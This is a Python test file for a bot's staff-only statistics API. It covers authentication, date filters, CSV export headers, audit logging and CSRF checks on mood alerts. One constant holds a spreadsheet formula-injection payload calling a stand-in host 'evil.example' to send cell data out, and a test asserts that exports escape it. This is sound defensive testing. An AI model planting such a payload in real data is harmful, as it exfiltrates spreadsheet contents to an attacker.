"""The statistics over HTTP: only for staff, and safe to open in a spreadsheet."""

import csv
from collections.abc import Callable, Iterator
from datetime import timedelta
from io import StringIO

import pytest
from fastapi.testclient import TestClient

from bot.home import Home
from bot.insights.csv import BOM
from bot.insights.mood_alerts import MoodAlert
from bot.runtime import Runtime
from bot.web import app as web_app
from bot.web.staff_session import COOKIE, csrf_token
from tests.bot.busy_log import NOW, add_conversation, add_status, add_turn, text
from tests.bot.homes import add_release, new_home

PASSWORD = "quiet lamps at noon"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"gift cards")'
ROUTES = ("insights", "insights/topics", "insights.csv", "mood-alerts")
DAY = timedelta(days=1)

Get = Callable[[str], dict]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    return new_home(tmp_path_factory.mktemp("home") / "shop", ("en", "zh"))


@pytest.fixture(scope="module")
def client(home: Home) -> Iterator[TestClient]:
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(home.log, "clock", lambda: text(NOW))
        from knowledge.encoder import OnnxEncoder
        from tests.fakes import HashingEncoder

        patched.setattr(OnnxEncoder, "load", lambda *_, **__: HashingEncoder())
        add_release(home)
        runtime = Runtime(home, watch=False)
        _fill(home)
        with TestClient(web_app.create_app(runtime)) as client:
            yield client
        runtime.close()


def _fill(home: Home) -> None:
    db = home.log.reading
    for number, back in enumerate((1, 2, 40)):
        name, at, language = f"c{number}", NOW - back * DAY, "zh" if number == 1 else "en"
        add_conversation(db, name, at, stars=4, language=language)
        add_turn(db, name, at, "answer", intent="order_status", rating=1, mood="positive")
        add_turn(db, name, at, "clarify", text=ATTACK, language=language)
        add_status(db, name, at, "waiting", "requested")
    for back in range(29):
        for number in range(25):
            name = add_conversation(db, f"m{back}-{number}", NOW - back * DAY - 200 * DAY)
            mood = "negative" if number < (12 if back == 0 else 2) else "neutral"
            add_turn(db, name, NOW - back * DAY, "small_talk", mood=mood)


@pytest.fixture(scope="module")
def token(client: TestClient) -> str:
    accounts = client.app.state.service.accounts
    accounts.add("ann", PASSWORD, "agent", "Ann")
    return accounts.sign_in("ann", PASSWORD, "here")


@pytest.fixture(scope="module")
def get(client: TestClient, token: str) -> Get:
    def get(path: str) -> dict:
        answer = client.get(f"/api/staff/{path}", headers={"Cookie": f"{COOKIE}={token}"})
        assert answer.status_code == 200, answer.text
        return answer.json()

    return get


@pytest.mark.parametrize("route", ROUTES)
def test_nobody_sees_figures_without_a_session(client: TestClient, route: str) -> None:
    assert client.get(f"/api/staff/{route}").status_code == 401


def test_figures_come_beside_those_of_the_period_before(get: Get) -> None:
    answer = get("insights")
    assert answer["figures"]["coverage"]["n"] == 4
    assert answer["before"]["coverage"]["n"] == 2
    assert answer["labels"] == {"order_status": {"en": "Where is my order?", "zh": "查询订单进度"}}
    found = {one["key"]: one for one in answer["headlines"]}
    assert (found["hand_offs"]["value"], found["hand_offs"]["before"]) == (2, 1)
    assert found["thumbs_up"] == {
        "key": "thumbs_up", "kind": "share", "value": 1.0, "n": 2, "good": "more", "before": 1.0
    }  # fmt: skip


def test_figures_of_chosen_days_and_language(get: Get) -> None:
    assert get("insights?days=7&language=zh")["figures"]["conversations"] == 1
    figures = get("insights?from=2026-01-01&to=2026-03-31&unit=month")["figures"]
    assert [part["first"] for part in figures["parts"]] == [
        "2026-01-01", "2026-02-01", "2026-03-01"
    ]  # fmt: skip
    assert get("insights?to=2026-01-23&days=1")["figures"]["conversations"] == 1


@pytest.mark.parametrize(
    "query",
    ["from=2026-03-02&to=2026-03-01", "from=soon", "days=0", "days=99999", "unit=hour",
     "language=fr", "to=9999-12-31", "to=0001-01-01", "from=0001-01-01"],
)  # fmt: skip
def test_wrong_periods_are_refused(client: TestClient, token: str, query: str) -> None:
    answer = client.get(f"/api/staff/insights?{query}", headers={"Cookie": f"{COOKIE}={token}"})
    assert answer.status_code == 422
    assert "error" in answer.json()


def test_topics_group_what_was_not_answered(get: Get) -> None:
    report = get("insights/topics?language=en&days=60")
    (topic,) = report["topics"]
    assert (topic["questions"], topic["conversations"], report["questions"]) == (2, 2, 2)
    assert len(topic["counts"]) == len(report["parts"]) == 60


def _download(client: TestClient, token: str, query: str) -> list[dict[str, str]]:
    answer = client.get(f"/api/staff/insights.csv?{query}", headers={"Cookie": f"{COOKIE}={token}"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith('attachment; filename="')
    assert answer.headers["x-content-type-options"] == "nosniff"
    body = answer.content.decode("utf-8")
    assert body.startswith(BOM)
    return list(csv.DictReader(StringIO(body.removeprefix(BOM))))


def test_a_download_has_a_row_a_day(client: TestClient, token: str) -> None:
    rows = _download(client, token, "days=7")
    assert next(row["first_day"] for row in rows) == "2026-02-26"
    assert len(rows) == 7
    assert sum(int(row["answers"]) for row in rows) == 2
    assert sum(int(row["hand_offs_requested"]) for row in rows) == 2
    assert {row["language"] for row in rows} == {"all"}


def test_no_cell_of_a_download_is_a_formula(client: TestClient, token: str) -> None:
    (row,) = _download(client, token, "table=topics&days=60&language=en")
    assert row["topic"] == f"'{ATTACK}"
    assert row["examples"].startswith("'=")
    cells = (
        cell for row in _download(client, token, "table=topics&days=60") for cell in row.values()
    )
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_download_is_kept_in_the_audit_log(client: TestClient, token: str) -> None:
    _download(client, token, "days=7")
    (entry, *_) = client.app.state.service.audit.entries()
    assert (entry.staff, entry.action, entry.target) == ("ann", "insights.download", "parts")


def test_an_alert_is_shown_until_somebody_noted_it(
    client: TestClient, token: str, get: Get
) -> None:
    told: list[MoodAlert] = []
    insights = client.app.state.service.runtime.insights
    insights.tell = told.append
    assert get("mood-alerts") == {"alerts": []}
    assert len(insights.check_mood()) == len(told) == 1
    (alert,) = get("mood-alerts")["alerts"]
    assert (alert["language"], alert["negative"], alert["noted_by"]) == ("en", 12, None)
    path = f"/api/staff/mood-alerts/{alert['id']}/noted"
    cookie = {"Cookie": f"{COOKIE}={token}", "Sec-Fetch-Site": "same-origin"}
    assert client.post(path, headers=cookie).status_code == 403
    own = {**cookie, "X-Deskmate-CSRF": csrf_token(token)}
    assert client.post(path, headers=own).status_code == 204
    assert get("mood-alerts")["alerts"][0]["noted_by"] == "ann"
